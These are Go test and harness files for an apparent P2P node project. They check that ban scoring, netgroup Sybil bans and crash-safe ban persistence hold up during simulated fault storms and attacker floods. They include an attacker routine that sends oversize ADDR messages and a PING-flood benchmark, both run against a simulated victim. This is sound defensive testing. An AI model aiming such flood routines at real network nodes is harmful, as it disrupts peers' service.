	Reputation *reputation.Engine

	// BanStore, when non-nil, gives the victim crash-safe ban-state
	// persistence; BanStoreRecovered (from banstore.Open) is restored
	// into the victim before it accepts connections. SnapshotEvery
	// follows node.Config semantics (zero = default, negative = off).
	// Crash-storm scenarios open the store themselves so they can
	// Crash() and reopen it across simulated process deaths.
	BanStore          *banstore.Store
	BanStoreRecovered *banstore.Recovered
	SnapshotEvery     time.Duration
}

func (c *Config) applyDefaults() {
	if c.HonestPeers == 0 {
		c.HonestPeers = node.DefaultMaxOutbound
	}
	if c.Window == 0 {
		c.Window = 250 * time.Millisecond
	}
	if c.HeartbeatEvery == 0 {
		c.HeartbeatEvery = 50 * time.Millisecond
	}
	if c.IdleTimeout == 0 {
		c.IdleTimeout = 1200 * time.Millisecond
	}
	if c.HandshakeTimeout == 0 {
		c.HandshakeTimeout = 300 * time.Millisecond
	}
	if c.DialTimeout == 0 {
		c.DialTimeout = 400 * time.Millisecond
	}
	if c.WriteTimeout == 0 {
		c.WriteTimeout = 500 * time.Millisecond
	}
	if c.ReconnectBackoff == 0 {
		c.ReconnectBackoff = 25 * time.Millisecond
	}
	if c.ReconnectMaxBackoff == 0 {
		c.ReconnectMaxBackoff = 300 * time.Millisecond
	}
}

// VictimAddr is where the cluster's victim node listens.
const VictimAddr = "10.0.0.1:8333"

// Cluster is one victim (mining, telemetry-instrumented, monitored) plus a
// set of honest peers, all on a shared fault-capable fabric.
type Cluster struct {
	Fabric    *simnet.Network
	Victim    *node.Node
	Registry  *telemetry.Registry
	Journal   *telemetry.Journal
	Server    *telemetry.Server
	Monitor   *detect.Monitor
	Miner     *miner.Miner
	Honest    []*node.Node
	Tracer    *trace.Tracer
	Forensics *core.Ledger

	// HonestAddrs lists the honest listeners ("10.0.1.N:8333").
	HonestAddrs []string

	cfg       Config
	dialPort  uint32
	dialMu    sync.Mutex
	quit      chan struct{}
	wg        sync.WaitGroup
	closeOnce sync.Once
}

// NewCluster builds and starts the cluster: the victim serves at
// VictimAddr with the miner running, honest peers serve at their addresses,
// and the heartbeat loop is live. Outbound connections are not yet made —
// call ConnectAll.
func NewCluster(cfg Config) (*Cluster, error) {
	cfg.applyDefaults()
	c := &Cluster{
		Fabric:    simnet.NewNetwork(),
		Registry:  telemetry.NewRegistry(),
		Journal:   telemetry.NewJournal(4096),
		Monitor:   detect.NewMonitor(cfg.Window),
		Tracer:    trace.New(trace.Config{SampleN: cfg.TraceSampleN}),
		Forensics: core.NewLedger(0, 0),
		cfg:       cfg,
		dialPort:  40000,
		quit:      make(chan struct{}),
	}
	c.Fabric.Instrument(c.Registry)
	c.Fabric.SetTracer(c.Tracer)
	c.Monitor.SetTracer(c.Tracer)
	c.Tracer.Instrument(c.Registry)
	c.Journal.Instrument(c.Registry)
	c.Server = telemetry.NewServer(c.Registry, c.Journal)
	c.Server.Handle("/debug/trace", c.Tracer.QueryHandler())
	c.Server.Handle("/debug/trace/export", c.Tracer.ExportHandler())

	c.Victim = node.New(node.Config{
		Dialer: func(remote string) (net.Conn, error) {
			c.dialMu.Lock()
			c.dialPort++
			port := c.dialPort
			c.dialMu.Unlock()
			return c.Fabric.Dial(fmt.Sprintf("10.0.0.1:%d", port), remote)
		},
		Tap:                 c.Monitor,
		Telemetry:           c.Registry,
		Journal:             c.Journal,
		Tracer:              c.Tracer,
		Forensics:           c.Forensics,
		Reputation:          cfg.Reputation,
		BanStore:            cfg.BanStore,
		BanStoreRecovered:   cfg.BanStoreRecovered,
		SnapshotEvery:       cfg.SnapshotEvery,
		IdleTimeout:         cfg.IdleTimeout,
		HandshakeTimeout:    cfg.HandshakeTimeout,
		DialTimeout:         cfg.DialTimeout,
		WriteTimeout:        cfg.WriteTimeout,
		ReconnectBackoff:    cfg.ReconnectBackoff,
		ReconnectMaxBackoff: cfg.ReconnectMaxBackoff,
	})
	c.Server.SetHealth(c.Victim.Health)
	banHandler := c.Forensics.Handler(c.Victim.Tracker().IsBanned)
	c.Server.Handle("/debug/bans", banHandler)
	c.Server.Handle("/debug/bans/", banHandler)
	c.Tracer.Enable()

	vl, err := c.Fabric.Listen(VictimAddr)
	if err != nil {
		c.Fabric.Close()
		return nil, err
	}
	c.Victim.Serve(vl)
	c.Miner = miner.New(c.Victim.Chain())
	c.Miner.Start()

	for i := 0; i < cfg.HonestPeers; i++ {
		addr := fmt.Sprintf("10.0.1.%d:8333", i+1)
		h := node.New(node.Config{IdleTimeout: time.Hour})
		l, err := c.Fabric.Listen(addr)
		if err != nil {
			c.Close()
			return nil, err
		}
		h.Serve(l)
		c.Honest = append(c.Honest, h)
		c.HonestAddrs = append(c.HonestAddrs, addr)
		c.Victim.AddrManager().Add(addr)
	}

	c.wg.Add(1)
	go c.heartbeat()
	return c, nil
}

// ConnectAll dials every honest peer from the victim, filling its outbound
// slots.
func (c *Cluster) ConnectAll() error {
	for _, addr := range c.HonestAddrs {
		if err := c.Victim.Connect(addr); err != nil {
			return fmt.Errorf("connect %s: %w", addr, err)
		}
	}
	return nil
}

// heartbeat pings every connected peer from the victim on a fixed cadence.
// Replies keep healthy links inside the aggressive chaos IdleTimeout —
// silenced links (partitions, dead remotes) idle out and surface to the
// slot keeper.
func (c *Cluster) heartbeat() {
	defer c.wg.Done()
	ticker := time.NewTicker(c.cfg.HeartbeatEvery)
	defer ticker.Stop()
	seq := uint64(0)
	for {
		select {
		case <-c.quit:
			return
		case <-ticker.C:
			for _, pr := range c.Victim.RankPeers() {
				if p, ok := c.Victim.Peer(pr.ID); ok {
					seq++
					_ = p.QueueMessage(wire.NewMsgPing(seq))
				}
			}
		}
	}
}

// Healthz performs an in-process request against the victim's /healthz
// endpoint — the exact bytes an orchestrator would see, without binding a
// real socket inside a chaos test.
func (c *Cluster) Healthz() (status int, doc map[string]any, err error) {
	rec := httptest.NewRecorder()
	c.Server.Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/healthz", nil))
	doc = map[string]any{}
	if err := json.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
		return rec.Code, nil, err
	}
	return rec.Code, doc, nil
}

// Close tears the whole cluster down in dependency order.
func (c *Cluster) Close() {
	c.closeOnce.Do(func() {
		close(c.quit)
		c.wg.Wait()
		if c.Miner != nil {
			c.Miner.Stop()
		}
		c.Victim.Stop()
		for _, h := range c.Honest {
			h.Stop()
		}
		c.Server.Close()
		c.Fabric.Close()
	})
}

// WaitGoroutines polls until the process goroutine count settles at or
// below limit, returning the final count and whether the limit was met.
// Chaos scenarios use it to prove storms leak nothing.
func WaitGoroutines(limit int, timeout time.Duration) (int, bool) {
	deadline := time.Now().Add(timeout)
	n := runtime.NumGoroutine()
	for time.Now().Before(deadline) {
		if n = runtime.NumGoroutine(); n <= limit {
			return n, true
		}
		time.Sleep(10 * time.Millisecond)
	}
	return n, false
}
