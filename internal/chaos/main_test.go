package chaos

import (
	"testing"

	"banscore/internal/leakcheck"
)

// TestMain backs the chaos suite's core claim — nodes heal and shut down
// cleanly under injected faults — with a binary-wide goroutine-leak
// assertion: no scenario may strand a reconnect loop, fault-delivery
// timer, or peer loop past its test.
func TestMain(m *testing.M) { leakcheck.Main(m) }
