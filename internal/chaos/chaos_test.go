package chaos

import (
	"net"
	"net/http"
	"runtime"
	"sync/atomic"
	"testing"
	"time"

	"banscore/internal/attack"
	"banscore/internal/blockchain"
	"banscore/internal/core"
	"banscore/internal/detect"
	"banscore/internal/simnet"
	"banscore/internal/wire"
)

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, d time.Duration, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timeout waiting for %s", what)
}

const attackerAddr = "10.0.9.9:4747"

var attackerNonce atomic.Uint64

// attackOnce runs one attacker connection: handshake, then a burst of
// oversize ADDR messages (+20 ban score each). Any wire error just ends the
// attempt — the caller loops until the ban lands.
func attackOnce(conn net.Conn, forge *attack.Forge) {
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(time.Second))
	me := wire.NewNetAddressIPPort(net.IPv4(10, 0, 9, 9), 4747, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(net.IPv4(10, 0, 0, 1), 8333, wire.SFNodeNetwork)
	v := wire.NewMsgVersion(me, you, 0xbad000+attackerNonce.Add(1), 0)
	if _, err := wire.WriteMessage(conn, v, wire.ProtocolVersion, wire.SimNet); err != nil {
		return
	}
	for {
		msg, _, err := wire.ReadMessage(conn, wire.ProtocolVersion, wire.SimNet)
		if err != nil {
			return
		}
		if _, ok := msg.(*wire.MsgVerAck); ok {
			break
		}
	}
	if _, err := wire.WriteMessage(conn, &wire.MsgVerAck{}, wire.ProtocolVersion, wire.SimNet); err != nil {
		return
	}
	for i := 0; i < 8; i++ {
		if _, err := wire.WriteMessage(conn, forge.OversizeAddr(), wire.ProtocolVersion, wire.SimNet); err != nil {
			return
		}
	}
	// Drain until the victim hangs up on us (or the deadline passes).
	buf := make([]byte, 4096)
	for {
		if _, err := conn.Read(buf); err != nil {
			return
		}
	}
}

// runAttacker dials and misbehaves from a fixed identifier until the victim
// bans it or quit closes.
func runAttacker(cl *Cluster, quit chan struct{}, done chan struct{}) {
	defer close(done)
	forge := attack.NewForge(blockchain.SimNetParams())
	id := core.PeerIDFromAddr(attackerAddr)
	for {
		select {
		case <-quit:
			return
		default:
		}
		if cl.Victim.Tracker().IsBanned(id) {
			return
		}
		conn, err := cl.Fabric.Dial(attackerAddr, VictimAddr)
		if err != nil {
			time.Sleep(20 * time.Millisecond)
			continue
		}
		attackOnce(conn, forge)
	}
}

// TestStormScenario is the resilience layer's end-to-end proof: a mining
// victim with all 8 outbound slots filled rides out 30% packet loss,
// injected connection resets, an attacker flood, and a timed partition —
// then recovers completely: slots refill, health returns, ban state is
// consistent, the detector still trains, and no goroutines leak.
func TestStormScenario(t *testing.T) {
	partitionFor := 5 * time.Second
	calmFor := time.Second
	if testing.Short() {
		partitionFor = time.Second
		calmFor = 500 * time.Millisecond
	}

	baseline := runtime.NumGoroutine()
	cl, err := NewCluster(Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()

	// --- Calm phase: fill every outbound slot, confirm health, and feed
	// the monitor clean traffic windows.
	if err := cl.ConnectAll(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, "8 outbound slots filled", func() bool {
		_, out := cl.Victim.PeerCount()
		return out == 8
	})
	if code, doc, _ := cl.Healthz(); code != http.StatusOK {
		t.Fatalf("healthz pre-storm: %d %v", code, doc)
	}
	time.Sleep(calmFor)

	// --- Storm phase. The whole fabric drops 30% of writes with a little
	// latency and jitter; the link to the first honest peer is loss-free
	// (specificity overrides the default) but hard-resets every connection
	// after 600 bytes — handshakes complete, then the heartbeat traffic
	// walks each connection over the budget, so that link churns through
	// reset after reset. The attacker runs over a milder 10% loss (a
	// deliberately well-provisioned attacker link) so its ban lands within
	// the storm window.
	cl.Fabric.SetDefaultFaults(&simnet.FaultPlan{
		DropRate: 0.3, Latency: time.Millisecond, Jitter: 2 * time.Millisecond, Seed: 0xc0ffee,
	})
	cl.Fabric.SetLinkFaultsBoth("10.0.1.1", "10.0.0.1", &simnet.FaultPlan{
		ResetAfterBytes: 600, Seed: 0xc0ffee,
	})
	cl.Fabric.SetLinkFaultsBoth("10.0.9.9", "10.0.0.1", &simnet.FaultPlan{
		DropRate: 0.1, Seed: 0xc0ffee,
	})

	// Fault plans bind at dial time, so kick every outbound connection:
	// the keepers must now rebuild all 8 slots through the degraded
	// fabric — 30% loss corrupting handshakes, the reset link killing
	// young connections — while the attacker floods.
	for _, addr := range cl.HonestAddrs {
		cl.Victim.DisconnectPeer(core.PeerIDFromAddr(addr))
	}

	attackQuit, attackDone := make(chan struct{}), make(chan struct{})
	go runAttacker(cl, attackQuit, attackDone)
	waitFor(t, 30*time.Second, "attacker banned mid-storm", func() bool {
		return cl.Victim.Tracker().IsBanned(core.PeerIDFromAddr(attackerAddr))
	})
	waitFor(t, 30*time.Second, "injected faults biting (delays and resets)", func() bool {
		fs := cl.Fabric.FaultStats()
		return fs.PayloadsDelayed > 0 && fs.ConnsReset > 0
	})
	waitFor(t, 60*time.Second, "keepers making progress through the storm", func() bool {
		return cl.Victim.Stats().ReconnectAttempts > 8
	})

	// Timed partition: the victim loses four honest peers entirely. The
	// silenced links idle out, the keepers' dials fail fast, and health
	// degrades with an outbound deficit.
	cl.Fabric.Partition("storm-cut",
		[]string{"10.0.0.1"},
		[]string{"10.0.1.5", "10.0.1.6", "10.0.1.7", "10.0.1.8"})
	partitionEnd := time.Now().Add(partitionFor)
	waitFor(t, 20*time.Second, "healthz degraded during partition", func() bool {
		code, doc, _ := cl.Healthz()
		return code == http.StatusServiceUnavailable && doc["status"] == "degraded"
	})
	if wait := time.Until(partitionEnd); wait > 0 {
		time.Sleep(wait)
	}

	// --- Heal phase: lift the partition and every fault, stop the
	// attacker, and require complete recovery.
	cl.Fabric.Heal("storm-cut")
	cl.Fabric.SetDefaultFaults(nil)
	cl.Fabric.SetLinkFaultsBoth("10.0.1.1", "10.0.0.1", nil)
	cl.Fabric.SetLinkFaultsBoth("10.0.9.9", "10.0.0.1", nil)
	close(attackQuit)
	<-attackDone

	waitFor(t, 30*time.Second, "all 8 outbound slots refilled after heal", func() bool {
		_, out := cl.Victim.PeerCount()
		return out == 8 && cl.Victim.Stats().PendingOutbound == 0
	})
	waitFor(t, 10*time.Second, "healthz healthy after heal", func() bool {
		code, _, _ := cl.Healthz()
		return code == http.StatusOK
	})

	// Ban-score consistency through the storm: exactly the attacker is
	// banned, no honest peer picked up a ban, and the refused-connection
	// counter shows the ban actually enforced at accept time.
	if !cl.Victim.Tracker().IsBanned(core.PeerIDFromAddr(attackerAddr)) {
		t.Error("attacker ban did not survive the storm")
	}
	for _, addr := range cl.HonestAddrs {
		if cl.Victim.Tracker().IsBanned(core.PeerIDFromAddr(addr)) {
			t.Errorf("honest peer %s banned", addr)
		}
	}
	if got := cl.Victim.Tracker().BanList().Count(); got != 1 {
		t.Errorf("ban list holds %d identifiers, want 1 (the attacker)", got)
	}

	// The fabric really did inject chaos.
	fs := cl.Fabric.FaultStats()
	if fs.PayloadsDropped == 0 || fs.DialsFailed == 0 {
		t.Errorf("storm too quiet: %+v", fs)
	}
	if !testing.Short() && fs.ConnsReset == 0 {
		t.Errorf("no injected resets landed: %+v", fs)
	}

	// The node kept working through the weather: the miner mined, and the
	// monitor's windows still train an engine.
	if cl.Miner.Mined() == 0 {
		t.Error("miner mined nothing through the storm")
	}
	windows := cl.Monitor.Flush()
	engine, _, err := detect.Train(windows, detect.Config{Margin: 1.5})
	if err != nil || engine == nil {
		t.Fatalf("detector failed to train on %d storm windows: %v", len(windows), err)
	}

	// Nothing leaked: after teardown the goroutine count returns to the
	// pre-cluster baseline (small slack for runtime background threads).
	cl.Close()
	if n, ok := WaitGoroutines(baseline+3, 10*time.Second); !ok {
		t.Errorf("goroutines leaked: baseline %d, now %d", baseline, n)
	}
}

// TestClusterLifecycle is the cheap smoke test: build, connect, health,
// teardown, no leaks — the harness itself must be clean before it can judge
// the node.
func TestClusterLifecycle(t *testing.T) {
	baseline := runtime.NumGoroutine()
	cl, err := NewCluster(Config{HonestPeers: 3})
	if err != nil {
		t.Fatal(err)
	}
	if err := cl.ConnectAll(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, "3 outbound peers", func() bool {
		_, out := cl.Victim.PeerCount()
		return out == 3
	})
	code, doc, err := cl.Healthz()
	if err != nil || code != http.StatusOK {
		t.Fatalf("healthz: %d %v %v", code, doc, err)
	}
	cl.Close()
	if n, ok := WaitGoroutines(baseline+3, 5*time.Second); !ok {
		t.Errorf("goroutines leaked: baseline %d, now %d", baseline, n)
	}
}
