package chaos

import (
	"bufio"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"banscore/internal/attack"
	"banscore/internal/banstore"
	"banscore/internal/blockchain"
	"banscore/internal/core"
	"banscore/internal/reputation"
)

// openFDs counts the process's open file descriptors (-1 where /proc is
// unavailable). Crash-storm scenarios reopen the same store repeatedly;
// every generation must release its segment and snapshot handles.
func openFDs() int {
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return -1
	}
	return len(ents)
}

// TestCrashStormBanStateSurvives is the tentpole durability scenario: a
// victim node with crash-safe persistence is Sybil-flooded from one /16
// until identifiers and the whole netgroup are banned, then killed
// mid-flood (Crash drops the unflushed group-commit window, exactly what
// SIGKILL costs) and restarted on the same store. The attacker must gain
// nothing from the death: banned identifiers stay banned, the netgroup
// stays collectively banned, fresh identities from the prefix are refused
// at accept, and scores survive to within one group-commit window.
func TestCrashStormBanStateSurvives(t *testing.T) {
	dir := t.TempDir()
	fdsBefore := openFDs()

	// One process lifetime: store opens (recovering whatever the previous
	// life persisted), the engine is born with the store as its recorder,
	// and the cluster restores recovered state before serving.
	boot := func() (*banstore.Store, *banstore.Recovered, *reputation.Engine, *Cluster) {
		t.Helper()
		s, rec, err := banstore.Open(banstore.Options{Dir: dir, FsyncInterval: 10 * time.Millisecond})
		if err != nil {
			t.Fatalf("Open: %v", err)
		}
		engine := reputation.New(reputation.Config{
			PeerContributionCap: 40,
			GroupBudget:         150,
			Recorder:            s,
		})
		cl, err := NewCluster(Config{
			HonestPeers:       1,
			Reputation:        engine,
			BanStore:          s,
			BanStoreRecovered: rec,
			SnapshotEvery:     -1, // snapshots forced explicitly below
		})
		if err != nil {
			t.Fatal(err)
		}
		return s, rec, engine, cl
	}

	// Life 1: flood until the collective ban lands.
	s, _, engine, cl := boot()
	const swarmGroup = "ip4:10.9/16"
	forge := attack.NewForge(blockchain.SimNetParams())
	groupBanned := func(e *reputation.Engine) bool {
		_, status := e.GroupPressure(swarmGroup)
		return status == reputation.GroupBanned
	}

	var bannedIDs []core.PeerID
	for i := 0; !groupBanned(engine); i++ {
		if i >= 32 {
			t.Fatal("netgroup never banned by the flood")
		}
		addr := fmt.Sprintf("10.9.1.%d:4001", 10+i)
		id := core.PeerIDFromAddr(addr)
		deadline := time.Now().Add(15 * time.Second)
		for !cl.Victim.Tracker().IsBanned(id) && !groupBanned(engine) {
			if time.Now().After(deadline) {
				t.Fatalf("identity %s never banned", addr)
			}
			conn, err := cl.Fabric.Dial(addr, VictimAddr)
			if err != nil {
				time.Sleep(5 * time.Millisecond)
				continue
			}
			attackOnce(conn, forge)
		}
		if cl.Victim.Tracker().IsBanned(id) {
			bannedIDs = append(bannedIDs, id)
		}
		if i == 1 {
			// Mid-flood snapshot: recovery must stitch it to the WAL
			// tail written after it, not trust either side alone.
			if err := cl.Victim.WriteSnapshot(); err != nil {
				t.Fatalf("WriteSnapshot: %v", err)
			}
		}
	}
	if len(bannedIDs) == 0 {
		t.Fatal("flood banned the group but no identifier — scenario needs both")
	}

	// Durability checkpoint, then more damage that may die with the
	// process: everything after Sync is one group-commit window.
	if err := s.Sync(); err != nil {
		t.Fatalf("Sync: %v", err)
	}
	if conn, err := cl.Fabric.Dial("10.9.2.2:4002", VictimAddr); err == nil {
		attackOnce(conn, forge)
	}

	// SIGKILL: the cluster tears down, the store dies without flushing.
	cl.Close()
	s.Crash()

	// Life 2: same directory, fresh process state.
	s2, rec2, engine2, cl2 := boot()
	defer func() {
		cl2.Close()
		if err := s2.Close(); err != nil {
			t.Errorf("Close after recovery: %v", err)
		}
	}()
	if rec2.Truncations != 0 {
		t.Errorf("clean crash (whole frames only) reported %d truncations", rec2.Truncations)
	}

	if !groupBanned(engine2) {
		t.Fatal("netgroup ban did not survive the crash")
	}
	for _, id := range bannedIDs {
		if !cl2.Victim.Tracker().IsBanned(id) {
			t.Errorf("identifier ban for %s lost in the crash", id)
		}
	}

	// A never-seen identity from the banned /16 is refused at accept by
	// the restored engine — the Sybil reconnect a restart used to enable.
	if conn, err := cl2.Fabric.Dial("10.9.250.250:6000", VictimAddr); err == nil {
		_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
		if _, err := conn.Read(make([]byte, 1)); err == nil {
			t.Error("banned-prefix identity admitted after restart")
		}
		conn.Close()
	}
	waitFor(t, 5*time.Second, "netgroup refusal counted post-restart", func() bool {
		return cl2.Victim.Stats().NetgroupConnsRefused >= 1
	})

	// Two full store generations must not leak descriptors. (Goroutines
	// are covered binary-wide by leakcheck.Main.)
	if fdsBefore > 0 {
		waitFor(t, 5*time.Second, "file descriptors released", func() bool {
			return openFDs() <= fdsBefore+10
		})
	}
}

// crashChildEnv carries the store directory into the helper process below.
const crashChildEnv = "BANSTORE_CRASH_CHILD_DIR"

// TestBanstoreCrashChild is not a test: it is the victim process for
// TestSIGKILLRecoveryStorm, selected via -test.run with crashChildEnv set.
// It appends good-score records in a tight loop with periodic snapshots
// until the parent kills it — ideally mid-write, mid-fsync, or mid-rename.
func TestBanstoreCrashChild(t *testing.T) {
	dir := os.Getenv(crashChildEnv)
	if dir == "" {
		t.Skip("helper process for TestSIGKILLRecoveryStorm")
	}
	s, rec, err := banstore.Open(banstore.Options{Dir: dir, FsyncInterval: time.Millisecond})
	if err != nil {
		fmt.Printf("CHILD-OPEN-ERROR %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("READY %d\n", rec.LastLSN)
	tracker := core.NewTracker(core.Config{})
	for i := 0; ; i++ {
		// Total == the record's own LSN, so any recovered prefix shows a
		// monotonically increasing total.
		s.AppendGood("storm-peer", int(s.LSN())+1)
		if i%512 == 511 {
			lsn := s.LSN()
			_ = s.Snapshot(banstore.CaptureState(tracker, nil, nil), lsn)
		}
	}
}

// TestSIGKILLRecoveryStorm kills a real process with SIGKILL mid-append
// over several rounds reusing one store directory. Every recovery must
// succeed by truncation — never refuse, never panic — and the persisted
// frontier must only move forward across deaths.
func TestSIGKILLRecoveryStorm(t *testing.T) {
	if os.Getenv(crashChildEnv) != "" {
		t.Skip("already inside the helper process")
	}
	dir := t.TempDir()
	var prevLSN uint64
	prevGood := 0
	for round := 0; round < 4; round++ {
		cmd := exec.Command(os.Args[0], "-test.run=TestBanstoreCrashChild$")
		cmd.Env = append(os.Environ(), crashChildEnv+"="+dir)
		stdout, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		br := bufio.NewReader(stdout)
		for {
			line, err := br.ReadString('\n')
			if err != nil {
				t.Fatalf("round %d: child died before ready: %v", round, err)
			}
			if strings.HasPrefix(line, "CHILD-OPEN-ERROR") {
				t.Fatalf("round %d: child failed to open store: %s", round, line)
			}
			if strings.HasPrefix(line, "READY") {
				break
			}
		}
		// Let it write for a while — a different while each round, so
		// deaths land at different points of the append/snapshot cycle.
		time.Sleep(time.Duration(20+round*35) * time.Millisecond)
		if err := cmd.Process.Kill(); err != nil {
			t.Fatalf("round %d: kill: %v", round, err)
		}
		_ = cmd.Wait()

		s, rec, err := banstore.Open(banstore.Options{Dir: dir})
		if err != nil {
			t.Fatalf("round %d: recovery failed: %v", round, err)
		}
		if rec.LastLSN < prevLSN {
			t.Fatalf("round %d: frontier went backwards: %d < %d", round, rec.LastLSN, prevLSN)
		}
		tracker := core.NewTracker(core.Config{})
		banstore.Restore(rec, tracker, nil, nil)
		good := tracker.GoodScore("storm-peer")
		if good < prevGood {
			t.Fatalf("round %d: good total went backwards: %d < %d", round, good, prevGood)
		}
		prevLSN, prevGood = rec.LastLSN, good
		if err := s.Close(); err != nil {
			t.Fatalf("round %d: close: %v", round, err)
		}
	}
	if prevLSN == 0 {
		t.Fatal("storm persisted nothing across four rounds")
	}
}
