package chaos

import (
	"fmt"
	"net/http"
	"testing"
	"time"

	"banscore/internal/attack"
	"banscore/internal/blockchain"
	"banscore/internal/core"
	"banscore/internal/reputation"
	"banscore/internal/simnet"
)

// TestNetgroupBanSurvivesFaultStorm drives a Sybil swarm from one /16
// through a degraded fabric — payload loss, latency, jitter — and requires
// the reputation engine's collective defense to hold anyway: the group
// charge accumulates across lossy, churning connections until the whole
// prefix is banned, fresh identities from it are refused at accept, and the
// honest peers (a different /16) ride out the storm untouched.
func TestNetgroupBanSurvivesFaultStorm(t *testing.T) {
	engine := reputation.New(reputation.Config{
		// Tight budget for test scale: each identity contributes at most
		// 40 (two oversize ADDRs), so the /16 falls after 4 identities —
		// 4×40 clears 150 even after decay shaves fractions.
		PeerContributionCap: 40,
		GroupBudget:         150,
	})
	cl, err := NewCluster(Config{HonestPeers: 2, Reputation: engine})
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	if err := cl.ConnectAll(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, "outbound slots filled", func() bool {
		_, out := cl.Victim.PeerCount()
		return out == 2
	})

	// Storm: every link dialed from here on drops 5% of payloads and adds
	// latency/jitter. Honest connections predate the plan (fault plans
	// bind at dial time) — the swarm's connections all ride through it.
	cl.Fabric.SetDefaultFaults(&simnet.FaultPlan{
		DropRate: 0.05, Latency: time.Millisecond, Jitter: 2 * time.Millisecond, Seed: 0xbead,
	})

	const swarmGroup = "ip4:10.9/16"
	forge := attack.NewForge(blockchain.SimNetParams())
	groupBanned := func() bool {
		_, status := engine.GroupPressure(swarmGroup)
		return status == reputation.GroupBanned
	}

	// Serial swarm through the weather: each identity redials until its
	// contribution saturates — dropped payloads desynchronize framing and
	// kill connections, so charges must survive arbitrary churn.
	identities := 0
	for i := 0; !groupBanned(); i++ {
		if i >= 32 {
			t.Fatal("netgroup never banned through the storm")
		}
		addr := fmt.Sprintf("10.9.1.%d:4001", 10+i)
		id := core.PeerIDFromAddr(addr)
		identities++
		deadline := time.Now().Add(15 * time.Second)
		for engine.Score(id).Misbehavior < 39 && !groupBanned() {
			if time.Now().After(deadline) {
				t.Fatalf("identity %s never saturated its contribution", addr)
			}
			conn, err := cl.Fabric.Dial(addr, VictimAddr)
			if err != nil {
				time.Sleep(10 * time.Millisecond)
				continue
			}
			attackOnce(conn, forge)
		}
	}
	if want := engine.IdentitiesToExhaust(); identities < want {
		t.Errorf("group fell after %d identities, want ≥ %d (ceil(budget/cap))", identities, want)
	}
	if fs := cl.Fabric.FaultStats(); fs.PayloadsDelayed == 0 {
		t.Error("storm never bit: no payloads delayed")
	}

	// A never-seen identity from the banned /16 is refused at accept,
	// even over the faulted fabric.
	if conn, err := cl.Fabric.Dial("10.9.250.250:6000", VictimAddr); err == nil {
		_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
		if _, err := conn.Read(make([]byte, 1)); err == nil {
			t.Error("banned-prefix identity was not refused")
		}
		conn.Close()
	}
	waitFor(t, 5*time.Second, "netgroup refusal counted", func() bool {
		return cl.Victim.Stats().NetgroupConnsRefused >= 1
	})

	// Heal and require the honest side intact: different /16, no bans, no
	// lost slots, health green.
	cl.Fabric.SetDefaultFaults(nil)
	for _, addr := range cl.HonestAddrs {
		if cl.Victim.Tracker().IsBanned(core.PeerIDFromAddr(addr)) {
			t.Errorf("honest peer %s banned", addr)
		}
	}
	waitFor(t, 30*time.Second, "honest slots intact after heal", func() bool {
		_, out := cl.Victim.PeerCount()
		return out == 2 && cl.Victim.Stats().PendingOutbound == 0
	})
	waitFor(t, 10*time.Second, "healthz healthy after heal", func() bool {
		code, _, _ := cl.Healthz()
		return code == http.StatusOK
	})
	if _, status := engine.GroupPressure(swarmGroup); status != reputation.GroupBanned {
		t.Error("netgroup ban did not survive the heal")
	}
}
