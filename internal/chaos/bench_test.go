package chaos

import (
	"bytes"
	"net"
	"testing"
	"time"

	"banscore/internal/wire"
)

// BenchmarkFloodAbsorb measures end-to-end flood throughput: one flooder
// pushes pre-encoded PING frames over the simnet fabric at a live victim
// (miner, telemetry, detection tap all running) and the benchmark waits for
// the node to actually process them. The msgs/s metric is the victim-side
// absorption rate the paper's BM-DoS experiments stress; it is reported for
// tracking but deliberately kept out of the bench gate — wall-clock
// throughput on shared CI runners is not stable enough to gate on.
func BenchmarkFloodAbsorb(b *testing.B) {
	cl, err := NewCluster(Config{HonestPeers: 1, HeartbeatEvery: time.Hour})
	if err != nil {
		b.Fatal(err)
	}
	defer cl.Close()

	conn, err := cl.Fabric.Dial("10.0.9.1:4001", VictimAddr)
	if err != nil {
		b.Fatal(err)
	}
	defer conn.Close()
	if err := floodHandshake(conn); err != nil {
		b.Fatal(err)
	}

	// Drain victim->flooder traffic (verack, pong replies) so the victim's
	// send queue never backpressures the path under measurement.
	go func() {
		buf := make([]byte, 64<<10)
		for {
			if _, err := conn.Read(buf); err != nil {
				return
			}
		}
	}()

	// One frame, encoded once; the flood is the same bytes repeated — the
	// attack's actual shape. A slab of frames per write keeps the fabric
	// write path from dominating the measurement.
	var one bytes.Buffer
	if _, err := wire.WriteMessage(&one, wire.NewMsgPing(42), wire.ProtocolVersion, wire.SimNet); err != nil {
		b.Fatal(err)
	}
	const perSlab = 64
	slab := bytes.Repeat(one.Bytes(), perSlab)

	base := cl.Victim.Stats().MessagesProcessed
	b.ResetTimer()
	sent := 0
	for sent < b.N {
		n := perSlab
		if left := b.N - sent; left < n {
			n = left
		}
		if _, err := conn.Write(slab[:n*one.Len()]); err != nil {
			b.Fatal(err)
		}
		sent += n
	}
	deadline := time.Now().Add(30 * time.Second)
	for cl.Victim.Stats().MessagesProcessed-base < uint64(b.N) {
		if time.Now().After(deadline) {
			b.Fatalf("victim processed %d of %d flood messages",
				cl.Victim.Stats().MessagesProcessed-base, b.N)
		}
		time.Sleep(time.Millisecond)
	}
	b.StopTimer()
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "msgs/s")
}

// floodHandshake completes the VERSION/VERACK exchange from the flooder
// side, mirroring attackOnce.
func floodHandshake(conn net.Conn) error {
